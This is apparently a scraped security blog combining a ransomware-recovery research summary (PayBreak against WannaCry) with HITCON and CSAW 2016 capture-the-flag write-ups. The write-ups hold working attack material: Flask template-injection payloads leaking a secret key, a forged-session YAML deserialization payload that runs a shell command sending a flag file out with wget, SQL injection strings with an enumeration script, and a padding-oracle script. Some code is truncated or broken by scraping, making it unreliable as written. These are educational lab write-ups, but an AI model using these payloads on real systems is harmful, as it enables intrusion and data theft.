PayBreak - Generically recovering from ransomware including WannaCry/WannaCryptor

PayBreak - Generically recovering from ransomware including WannaCry/WannaCryptor

Recently I worked on some research with colleagues at BostonUniversity (Manuel Egele, William Koch) and University College London (Gianluca Stringhini) into defeating ransomware. The fruit of our labor, PayBreak published this year in ACM ASIACCS, is a novel proactive system against ransomware. It happens to work against the new global ransomware threat, WannaCry. WannaCry is infecting more than 230,000 computers in 150 countries demanding ransom payments in exchange for access to precious files. This attack has been cited as being unprecedented, and the largest to date. Luckily, our research works against it.

PayBreak works by storing all the cryptographic material used during a ransomware attack. Modern ransomware uses what's called a "hybrid cryptosystem", meaning each ransomed file is encrypted using a different key, and each of those keys are then encrypted using another public encryption key, with the private decryption key held by the ransomware authors. When ransomware attacks, PayBreak records the cryptographic keys used to encrypt each file, and securely stores them. When recovery is necessary, the victim retrieves the ransom keys, and iteratively decrypts each file.

By having PayBreak installed prior to an infection, recovery from ransomware attacks is possible at negligible CPU and RAM overhead.

Recovering from WannaCry Ransomware

At this point, I think I've reverse engineered and researched something like 30 ransomware families, from over 1000 samples. Wannacry isn't really much different than every other ransomware family. Those include other infamous families like Locky, CryptoWall, CryptoLocker, and TeslaLocker.

They all pretty much work the same way, including Wannacry. Actually, this comic sums up the ransom process the best I've seen. Every successful family today encrypts each file for ransom with a new unique "session" key, and encrypts each session key with a "public" ransom keymaking it irrecoverable without the matching "private" key held closely by ransomware racketeers. Those session keys are generated on the host machine. This is where PayBreak shims thegeneration, and usage of those keys, and saves them. Meaning, the encryption of those session keys by the ransomware's public key is pointless, and defeated.

Custom AES by WannaCry

The PayBreak system doesn't rely on any specific algorithm, or cryptographic library to be used by ransomware. Actually, Wannacry implemented, or at least, statically compiled its own AES-128-CBC function. PayBreak can be configured to hook arbitrary functions, including that custom AES function, and record the parameters, such as the key, passed to it. However, a simpler approach in this case was to hook the Windows secure pseudorandom number generator function, CryptGenRandom, which the ransomware (and most others) use to create new session keys per file, and save the output of the function calls.

Recorded Keys

Recovering files is simply testing each of the recorded session keys with the encrypted files, until a successful decryption. Decrypting my file system of ~1000 files took 94 minutes.

Encrypted: Desert.jpg.WNCRY
Key used by Wannacry: cc24d9c8388fa566456ccec745e009c8
Decrypted: Desert.jpg

Thanks @jeffreycrowell for sharing a sample with me.
Full paper can be found here:
SHA256 Hash of Sample: 24d004a104d4d54034dbcffc2a4b19a11f39008a575aa614ea04703480b1022c
WannaCry Custom AES:

Hitcon CTF 2016 Writeups


Secure Posts 1Web 50

Here is a service that you can store any posts. Can you hack it?

Secret Posts Manager

We're given the source code for this webpage:


It's fairly straight forward of an app. It takes your post, saves it with your session using asecret key. And for every new post, it appends to the previous posts. It additionally allows you to store the posts as either JSON, or YAML. The code is a bit more confusing, and seems to maybe allow you to use Pickle or eval, but that's actually useless/unimportant.

At first glance, I spent a lot of time trying to figure out how to do a YAML Deserialization attack that I read up a little while back on: However, upon furtherinspection, it just simply isn't possible due to the way the app does serialization and deserialization.

Essentially the code boils down one of two routes, /, or /post. Both start with load_posts(), which will essentially either fail or do yaml.load(). Typically, this would be dangerous, however the data that it's going to unload is completely uncontrollable by us do to it being tied to the session, and the session being integrity controlled by the secret_key.

We have some control over the session through the / route. However, what that route ends up doing is essentially taking our dirty input, and putting it into a dictionary structure. It then serializes that dictionary using yaml.dump(). Now, what we have instead of our dangerous input is just a plain old harmless serialized dictionary that points to some strings. One of those strings may happen to look dangerous, but is still just a string and it will not be parsed as anything else.

So we're out of luck here for doing anything involving deserialization.

There's one other area where user input seems to go:return render_template_string(template.format(name=name), **args)

Hmm... I wonder what Google shows up for 'template format injection flask' -

Aha! A bug bounty by the same creator of the challenge, orange, lol!

Testing his same test, {{'7'*7}} into the name field, gives us exactly what he said it would give 7777777.

So, simply changing that to {{config}} is going to render the config module as a string, and output it to us:

<Config {'SESSION_COOKIE_SECURE': False, 'DEBUG': False, 'SESSION_COOKIE_NAME': 'session', 'JSONIFY_PRETTYPRINT_REGULAR': True, 'PERMANENT_SESSION_LIFETIME': datetime.timedelta(31), 'PREFERRED_URL_SCHEME': 'http', 'PRESERVE_CONTEXT_ON_EXCEPTION': None, 'SERVER_NAME': None, 'SEND_FILE_MAX_AGE_DEFAULT': 43200, 'TRAP_HTTP_EXCEPTIONS': False, 'MAX_CONTENT_LENGTH': None, 'A': <datetime.tzinfo object at 0x7f3b41b891d0>, 'TRAP_BAD_REQUEST_ERRORS': False, 'JSON_AS_ASCII': True, 'TESTING': False,'PROPAGATE_EXCEPTIONS': None, 'SESSION_COOKIE_DOMAIN': None, 'USE_X_SENDFILE': False, 'APPLICATION_ROOT': None, 'SESSION_COOKIE_HTTPONLY': True, 'LOGGER_NAME': 'post_manager', 'SESSION_COOKIE_PATH': None, 'SECRET_KEY':'hitcon{>_<---Do-you-know-<script>alert(1)</script>-is-very-fun?}', 'JSON_SORT_KEYS': True}>

SECRET_KEY is the flag, and the actual session secret key of the website, see below for why that's interesting.

Secure Posts 2

Web 150

Here is a service that you can store any posts. Can you hack it?

Same exact website as as the first part in 'Secure Posts'.

It's important to understand how the app works, so look at the Examination section of Secure Posts 1 to understand how the app works.

From the previous challenge we have the secret key of the website. Thatmeans we actually have full control of the data that the app will try to deserialize. Without the secret key, we could not edit the session cookie without violating the signature check. But, now we have it, so it's free game!

import yaml
from flask.sessions import SecureCookieSessionInterface

key = r"hitcon{>_<---Do-you-know-<script>alert(1)</script>-is-very-fun?}"

class App(object):
    def __init__(self):
        self.secret_key = None

def load_yaml(data):
    import yaml
    return yaml.load(data)

exploit = u"some_option: !!python/object/\n \
  args: [wget$(cat flag2)]\n \
  kwds: {shell: true}\n"

exploit = {'post_type': u'yaml',
           'post_data': exploit}

app = App()
app.secret_key = key

# Encode a session exactly how Flask would do it
si = SecureCookieSessionInterface()
serializer = si.get_signing_serializer(app)
session = serializer.dumps(exploit)

print("Change your session cookie to: ")

# Test it on ourselves
#x = serializer.loads(session)

All we really need is some YAML code that does something malicious. This Redhat Article explains how to do a Python with YAML, so we can leverage that to get remote execution. Next we need to form our session into a shape that the webapp likes,so that means making it into the correct dictionary with 'post_type' and 'post_data'.After we have that session ready, we have to encode it using the same scheme that Flask does. This was easier to do than expected. We can then change our session cookie to the string that a real Flask app would do.

Refresh the page... - - [10/Oct/2016:05:02:55 +0300] "GET/hitcon%7Bunseriliaze_is_dangerous_but_RCE_is_fun!!%7D HTTP/1.1" 301 184 "-" "Wget/1.17.1 (linux-gnu)"

Are you rich?

Web 50

Description Are you rich? Buy the flag!
ps. You should NOT pay anything for this challenge
Some error messages which is non-related to challenge have been removed

Navigate to verify.php, and for address:

d' AND 1=2 UNION ALL SELECT table_name from information_schema.tables LIMIT 3,1 #

Change the limit to output a different table_name, and keep enumerating to find the table named flag.I made a tester script:

import requests

URL = ''

for i in range(0, 100):
    address = r"d' AND 1=2 UNION ALL SELECT table_name from information_schema.tables LIMIT {},1 #".format(str(i))
    data = {'address': address,
            'flag_id': 'flag2',
             'submit': 1}

    r =, data=data)

    if 'not have enough' not in r.text:

Then do

d' AND 1=2 UNION ALL SELECT flag from flag1 #

And get...

Error!: Remote API server reject your invalid address 'hitcon{4r3_y0u_r1ch?ju57_buy_7h3_fl4g!!}'. If your address is valid, please PM @cebrusfs or other admin on IRC.

CSAW Qual CTF 2016 Writeups

The team/club I organize at Boston University just got done competing in the CSAW Qual CTF 2016. It was a bunch of fun, and we came in 119th out of 1274 active teams, top 10%!


Here's some writeups of the challenges I worked on. Other people's writeups can be found at



(Crypto 200)

The challenge was a basic padding oracle attack. A padding oracle attack is present when: 1) A server attempts decryption with padding on controllable data, and 2) The server returns different a different result (i.e. errormessage) if the cipher text did not unpad correctly (i.e. an oracle). By attempting decryption of specially crafted data, the oracle reveals if unpadding was successful. From that oracle the plaintext can be recovered without the original key.

The challenge presents to you a website that states "Decrypt the matrix", and an input box that generates a new seemingly random base64 string on refresh. Playing around with submitting the box prints a different message depending on the input, either:

  1. Nothing
  2. AES Exception Thrown
  3. Invalid Base64

The random generated base64 string always returns "Nothing", meaning it probably workedsuccessfully.

So there's a few hints here to tell you what to do:

  • "Decrypt the matrix" - Probably have to decrypt something.
  • The Matrix has a very important character named "The Oracle".
  • We get thrown 2 different messages depending on if our input succeeded, or didn't - ala we have an oracle.

So putting those pieces together, this is clearly a Padding Oracle exploit exercise.

This was my first padding oracle exploit. The best website while trying to learn this attack for the challenge was:

From that, I then found some things already built for crafting/testing differently crafted data. I choose, (I also have it easily installable in my sec-tools), as the best one for me. It's a nice Python API, where basically all you have to do is define an oracle function, and make it either Throw a'BadPaddingException' based on your own logic for what throws that, or make it return successfully. The logic to throw a BadPaddingException can be actual crypto, or it can be a web request, it just has to be logic that causes an oracle to speak.

from paddingoracle import BadPaddingException, PaddingOracle
from base64 import b64encode, b64decode
from urllib import quote, unquote
import requests
import socket
import time

class PadBuster(PaddingOracle):
    def __init__(self, **kwargs):
        super(PadBuster, self).__init__(**kwargs)

    def oracle(self, data, **kwargs):
        print("[*] Trying: {}".format(b64encode(data)))

        # Do Crypto that throws something differentif padding error
        r ='', data={'matrix-id':b64encode(data)})

        if 'AES' in r.text:
            print ("[*] Padding error!")
            raise BadPaddingException
